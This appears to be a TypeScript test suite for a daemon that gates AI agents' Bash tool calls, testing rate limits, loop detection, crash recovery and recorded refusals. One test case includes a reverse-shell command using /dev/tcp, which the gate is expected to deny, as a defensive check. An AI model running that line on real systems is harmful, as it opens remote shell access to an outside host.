import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type * as AdmissionModule from '../../src/checks/admission.ts'
import type * as SqliteModule from '../../src/journal/stores/sqlite.ts'
import type * as LimitsModule from '../../src/journal/stores/sqlite-limits.ts'
import { statePaths } from '../../src/journal/stores/checkpoint-file.ts'
import { toToolCall } from '../../src/call/read-call.ts'
import { merged } from '../../src/policy/merged.testing.ts'
import { newSession } from '../../src/session.ts'
import type * as ComposeModule from '../../src/surfaces/compose.ts'
import type * as GateModule from '../../src/gate.ts'
import { type DaemonProduct, loadDaemon, run } from '../daemon/client.ts'
import { sample } from '../journal/samples.ts'
import { type Failures, loaderFor, SOURCES } from '../product.ts'

/** The parts that count calls: the real sources, or a copy of them with a bug put back. */
export interface LimitsProduct {
  readonly daemon: DaemonProduct
  readonly admission: typeof AdmissionModule
  readonly limits: typeof LimitsModule
  readonly sqlite: typeof SqliteModule
  readonly compose: typeof ComposeModule
  readonly gate: typeof GateModule
}

export async function loadLimits(root: string = SOURCES): Promise<LimitsProduct> {
  const load = loaderFor(root)
  return {
    daemon: await loadDaemon(root),
    admission: await load('checks/admission.ts'),
    limits: await load('journal/stores/sqlite-limits.ts'),
    sqlite: await load('journal/stores/sqlite.ts'),
    compose: await load('surfaces/compose.ts'),
    gate: await load('gate.ts'),
  }
}

/** Nothing comes back while a test runs. */
const RATE = { burst: 20, perSecond: 0.000_1 }
const SETTINGS = JSON.stringify({ admission: { rate: RATE } })
const CALLERS = 64

/** 64 callers at once get exactly what the limit says; a restart gives them nothing back. */
export async function callersAndRestarts({ daemon }: LimitsProduct): Promise<Failures> {
  const failures: string[] = []
  const first = await run(daemon, { settings: SETTINGS })
  const home = join(first.directory, 'home')
  const stateDirectory = first.daemon.paths.directory
  const all = await Promise.all(
    Array.from({ length: CALLERS }, (_, index) => first.post('/v1/judge', first.call(`ls -la d${index}`))),
  )
  const count = (part: string): number => all.filter(({ body }) => body.includes(part)).length
  if (count('"decision":"allow"') !== RATE.burst) failures.push(`${count('"decision":"allow"')} were allowed`)
  if (count('rate.limited') !== CALLERS - RATE.burst)
    failures.push(`${count('rate.limited')} were refused for the rate`)
  await first.daemon.stop()
  for (const time of ['first', 'second']) {
    const again = await run(daemon, { settings: SETTINGS, stateDirectory, home })
    const { body } = await again.post('/v1/judge', first.call('ls -la again'))
    if (!body.includes('rate.limited')) failures.push(`after the ${time} restart the limit is forgotten: ${body}`)
    const other = await again.post('/v1/judge', first.call('ls -la again', 'another'))
    if (!other.body.includes('"decision":"allow"')) failures.push(`another session is refused: ${other.body}`)
    await again.end()
  }
  await first.end()
  return failures
}

/** A process that dies gives nothing back, and processes that run at the same time share what there is. */
export async function crashesAndNeighbours({ admission, limits, sqlite }: LimitsProduct): Promise<Failures> {
  const failures: string[] = []
  const directory = mkdtempSync(join(tmpdir(), 'pc-limits-'))
  const state = join(directory, 'state')
  mkdirSync(state)
  const policy = merged(['user', { admission: { rate: { burst: 100, perSecond: 0.000_1 } } }])
  const open = (process: 'goes on' | 'one call') => {
    const journal = sqlite.openSqliteJournal({ stateDirectory: state, thread: 'caller', deadlineMs: 60_000 })
    const store = new limits.SqliteLimits(journal, statePaths(state).database, { process })
    const counting = admission.openAdmission({
      policyFor: () => policy,
      now: () => performance.now(),
      wall: () => Date.now(),
      limits: store,
    })
    store.use(counting)
    let calls = 0
    /** How many of so many calls are let in, each with its record. */
    const take = async (many: number): Promise<number> => {
      let admitted = 0
      for (let index = 0; index < many; index++) {
        const read = toToolCall({ tool: 'Bash', input: { command: `ls ${calls++}` }, cwd: '/' }, WHO)
        if (!('ok' in read)) throw new Error('the call cannot be read')
        if (counting.admit(read.ok, newSession('s')) === undefined) admitted++
        await journal.remember(sample(`c${calls}`))
      }
      return admitted
    }
    const close = async (): Promise<void> => {
      await store.flush()
      store.close()
      await journal.close()
    }
    return { take, counting, close }
  }
  // It dies: nothing of it is closed.
  const dies = open('goes on')
  let admitted = await dies.take(50)
  const next = open('goes on')
  const rest = await next.take(100)
  admitted += rest
  if (admitted > 100) failures.push(`${admitted} were let in over a crash, and 100 may`)
  if (rest < 100 - 50 - 2 * 5)
    failures.push(`only ${rest} were let in after a crash: more than was taken ahead is lost`)
  await next.close()
  // One process per call, as hooks are without a daemon.
  for (let index = 0; index < 3; index++) {
    const one = open('one call')
    const more = await one.take(1)
    if (admitted >= 100 && more > 0) failures.push('a process of one call is let in beyond the limit')
    admitted += more
    await one.close()
  }
  rmSync(directory, { recursive: true, force: true })
  return failures
}

const WHO = { session: 's', agent: 'test', cwd: '/' } as const

/** A loop that a process of one call each makes is seen: what was seen outlives them. */
export async function loopsOverProcesses({ admission, limits, sqlite }: LimitsProduct): Promise<Failures> {
  const directory = mkdtempSync(join(tmpdir(), 'pc-loops-'))
  const policy = merged(['user', { admission: { loop: { same: 4, everySeconds: 86_400 } } }])
  const codes: (string | undefined)[] = []
  for (let index = 0; index < 6; index++) {
    const journal = sqlite.openSqliteJournal({ stateDirectory: directory, thread: 'caller', deadlineMs: 60_000 })
    const store = new limits.SqliteLimits(journal, statePaths(directory).database, { process: 'one call' })
    const { admit } = admission.openAdmission({ policyFor: () => policy, now: () => Date.now(), limits: store })
    const read = toToolCall({ tool: 'Bash', input: { command: 'ls' }, cwd: '/' }, WHO)
    if ('ok' in read) codes.push(admit(read.ok, newSession('s'))?.because[0]?.code)
    await journal.remember(sample(`c${index}`))
    store.close()
    await journal.close()
  }
  rmSync(directory, { recursive: true, force: true })
  const wanted = [undefined, undefined, undefined, undefined, 'rate.loop', 'rate.loop']
  return JSON.stringify(codes) === JSON.stringify(wanted) ? [] : [`the six same calls: ${JSON.stringify(codes)}`]
}

/** A call that is too much is refused before anything of it is understood, and its refusal is recorded. */
export async function beforeParsing({ compose, gate }: LimitsProduct): Promise<Failures> {
  const failures: string[] = []
  const recorded: string[] = []
  const policy = merged(['user', { admission: { rate: { burst: 1, perSecond: 0.000_1 } } }])
  const made = await compose.composeGate({
    policy,
    journal: {
      remember: (record) => {
        recorded.push(`${record.verdict.decision} ${record.verdict.because[0]?.code}`)
        return Promise.resolve()
      },
    },
  })
  const session = newSession('s')
  for (const wanted of ['allow', 'deny']) {
    const read = toToolCall({ tool: 'Bash', input: { command: 'echo one; echo two' }, cwd: '/tmp' }, WHO)
    if (!('ok' in read)) return ['the call cannot be read']
    const verdict = await gate.judge(made, read.ok, session)
    if (verdict.decision !== wanted) failures.push(`${verdict.decision}, not ${wanted}`)
    const layers = verdict.trace.map(({ layer }) => layer).join(' ')
    if (wanted === 'deny' && (layers !== 'admission' || verdict.actions.length > 0))
      failures.push(`a call that is refused for its rate was understood first: ${layers}`)
  }
  if (recorded[1] !== 'deny rate.limited') failures.push(`the refusal is not on record: ${recorded.join(', ')}`)
  return failures
}

/** A loop holds back what would be allowed; what is forbidden stays forbidden, whoever would say yes. */
export async function loopsHoldBack({ compose, gate }: LimitsProduct): Promise<Failures> {
  const failures: string[] = []
  const policy = merged(['user', { admission: { loop: { same: 2, everySeconds: 86_400 } } }])
  const made = await compose.composeGate({ policy, journal: { remember: () => Promise.resolve() } })
  for (const [command, first, last, code] of [
    ['ls', 'allow', 'ask', 'rate.loop'],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'deny', 'deny', undefined],
  ] as const) {
    const session = newSession(command, { interactive: true })
    const said: string[] = []
    let codes: readonly string[] = []
    for (let index = 0; index < 3; index++) {
      const read = toToolCall({ tool: 'Bash', input: { command }, cwd: '/tmp' }, { ...WHO, session: command })
      if (!('ok' in read)) return ['the call cannot be read']
      session.denials.consecutive = 0
      const verdict = await gate.judge(made, read.ok, session)
      said.push(verdict.decision)
      codes = verdict.because.map((reason) => reason.code)
    }
    if (said[0] !== first || said[2] !== last) failures.push(`${command}: ${said.join(', ')}`)
    if (code !== undefined && !codes.includes(code)) failures.push(`${command}: ${codes.join(', ')}`)
  }
  return failures
}
